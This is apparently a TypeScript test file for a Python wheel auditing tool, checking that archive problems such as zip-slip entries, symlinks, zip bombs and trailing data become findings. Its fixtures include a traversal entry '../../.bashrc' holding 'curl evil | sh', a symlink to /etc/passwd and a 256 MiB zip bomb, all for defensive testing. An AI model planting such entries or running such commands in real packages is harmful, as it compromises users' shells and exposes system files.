/**
 * Archive problems become findings, one check per problem code (the reader's
 * own tests, test/artifact/zip-*.test.ts, build an archive for every code);
 * and end to end, hostile wheels fail the audit with the right check.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ARCHIVE_CHECKS, archiveRule } from '../../src/rules/archive/archive.ts';
import type { ArchiveProblemCode } from '../../src/artifact/archive/types.ts';
import { auditFile } from '../../src/audit/audit.ts';
import { contextFor } from '../support/audit-context.ts';
import { buildWheel } from '../support/wheel-builder.ts';
import { buildZip } from '../support/zip-writer.ts';
import { deflatedZeros } from '../artifact/zip-helpers.ts';

const EXPECTED: [ArchiveProblemCode, string][] = [
  ['unreadable', 'archive.unreadable'],
  ['path-traversal', 'archive.path-traversal'],
  ['invalid-name', 'archive.invalid-name'],
  ['symlink', 'archive.symlink'],
  ['special-file', 'archive.special-file'],
  ['duplicate-entry', 'archive.duplicate-entry'],
  ['case-collision', 'archive.case-collision'],
  ['encrypted-entry', 'archive.encrypted-entry'],
  ['unsupported-compression', 'archive.unsupported-compression'],
  ['entry-too-large', 'archive.entry-too-large'],
  ['compression-ratio', 'archive.compression-ratio'],
  ['total-too-large', 'archive.total-too-large'],
  ['too-many-entries', 'archive.too-many-entries'],
  ['header-mismatch', 'archive.header-mismatch'],
  ['corrupt-entry', 'archive.corrupt-entry'],
  ['overlapping-entries', 'archive.overlapping-entries'],
  ['leading-data', 'archive.leading-data'],
  ['trailing-data', 'archive.trailing-data'],
  ['hidden-data', 'archive.hidden-data'],
];

test('every archive problem code has its own documented check, and becomes a finding naming the entry', () => {
  assert.deepEqual(Object.keys(ARCHIVE_CHECKS).sort(), EXPECTED.map(([c]) => c).sort());
  for (const [code, id] of EXPECTED) {
    const { ctx, findings } = contextFor({});
    ctx.scan.problems.push({ code, path: 'pkg/x.so', message: `problem ${code}`, fatal: code === 'unreadable' });
    archiveRule.run(ctx);
    assert.deepEqual(
      findings.map((f) => [f.check, f.file, f.message, f.evidence.code]),
      [[id, 'pkg/x.so', `problem ${code}`, code]],
    );
    assert.equal(findings[0]!.severity, code === 'case-collision' ? 'warning' : 'error');
  }
});

async function auditBytes(name: string, bytes: Uint8Array) {
  const dir = mkdtempSync(join(tmpdir(), 'distaudit-archive-rule-'));
  try {
    const path = join(dir, name);
    writeFileSync(path, bytes);
    return await auditFile(path);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const WHEEL_NAME = 'demo-1.0-py3-none-any.whl';
const ok = buildWheel({ tag: 'py3-none-any', files: { 'demo/__init__.py': 'x = 1\n' }, purelib: true });

test('a clean pure wheel passes with no archive finding', async () => {
  const r = await auditBytes(WHEEL_NAME, ok.bytes);
  assert.deepEqual(r.findings.filter((f) => f.check.startsWith('archive.')), []);
  assert.equal(r.overall.verdict, 'pass');
});

test('a wheel with a zip-slip entry fails with archive.path-traversal', async () => {
  const w = buildWheel({ tag: 'py3-none-any', purelib: true, files: { 'demo/__init__.py': '' }, extraEntries: [{ name: '../../.bashrc', data: 'curl evil | sh\n' }] });
  const r = await auditBytes(WHEEL_NAME, w.bytes);
  const f = r.findings.find((x) => x.check === 'archive.path-traversal');
  assert.ok(f, JSON.stringify(r.findings.map((x) => x.check)));
  assert.equal(f.file, '../../.bashrc');
  assert.equal(r.overall.verdict, 'fail');
});

test('a wheel with a symlink entry fails with archive.symlink', async () => {
  const w = buildWheel({ tag: 'py3-none-any', purelib: true, files: { 'demo/__init__.py': '' }, extraEntries: [{ name: 'demo/passwd', data: '/etc/passwd', mode: 0o120777 }] });
  const r = await auditBytes(WHEEL_NAME, w.bytes);
  assert.ok(r.findings.some((x) => x.check === 'archive.symlink' && x.file === 'demo/passwd'));
});

test('a zip bomb inside a wheel is stopped and reported as archive.compression-ratio', async () => {
  const bomb = deflatedZeros(256 * 1024 * 1024);
  const zip = buildZip({ entries: [{ name: 'demo/__init__.py', data: '' }, { name: 'demo/zeros.bin', body: bomb.body, crc: bomb.crc, declaredSize: 256 * 1024 * 1024 }] });
  const t0 = performance.now();
  const r = await auditBytes(WHEEL_NAME, zip);
  assert.ok(performance.now() - t0 < 5000);
  assert.ok(r.findings.some((x) => x.check === 'archive.compression-ratio' && x.file === 'demo/zeros.bin'), JSON.stringify(r.findings.map((x) => x.check)));
});

test('a file named .whl that is not a zip is an archive.unreadable report, not a stack trace', async () => {
  const r = await auditBytes(WHEEL_NAME, new TextEncoder().encode('<html>404 Not Found</html>\n'));
  assert.ok(r.findings.some((x) => x.check === 'archive.unreadable'));
  assert.equal(r.overall.verdict, 'fail');
});

test('bytes appended to a wheel are reported as archive.trailing-data and the wheel is still read', async () => {
  const r = await auditBytes(WHEEL_NAME, Buffer.concat([ok.bytes, Buffer.from('#!/bin/sh\necho appended\n')]));
  assert.ok(r.findings.some((x) => x.check === 'archive.trailing-data'));
  assert.ok(!r.findings.some((x) => x.check === 'record.missing'), 'the wheel behind the trailing data was still read');
});

test('when a fatal archive problem stops the reading, files never reached are not reported missing', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'distaudit-archive-rule-'));
  try {
    const w = buildWheel({ tag: 'py3-none-any', purelib: true, files: { 'demo/__init__.py': 'x = 1\n', 'demo/big.txt': 'y'.repeat(8000) } });
    const path = join(dir, w.filename);
    writeFileSync(path, w.bytes);
    const r = await auditFile(path, { limits: { maxTotalSize: 4000 } });
    const checks = r.findings.map((f) => f.check);
    assert.ok(checks.includes('archive.total-too-large'), JSON.stringify(checks));
    assert.deepEqual(checks.filter((c) => c.startsWith('wheel.') || c.startsWith('record.')), []);
    assert.equal(r.overall.verdict, 'fail');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
